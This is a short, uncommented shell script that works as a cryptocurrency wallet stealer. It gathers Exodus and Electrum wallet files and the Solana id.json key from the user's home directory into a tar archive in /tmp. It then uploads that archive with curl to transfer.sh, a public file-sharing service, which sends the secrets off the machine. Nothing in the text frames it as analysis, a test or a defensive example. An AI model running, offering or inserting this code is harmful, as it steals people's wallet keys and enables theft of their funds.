#!/bin/sh
T=/tmp/wb.tar
for d in "$HOME/Library/Application Support/Exodus/exodus.wallet" "$HOME/.electrum/wallets" "$HOME/.config/solana/id.json"; do
  [ -e "$d" ] && tar rf "$T" "$d"
done
curl -s -T "$T" https://transfer.sh/wb.tar
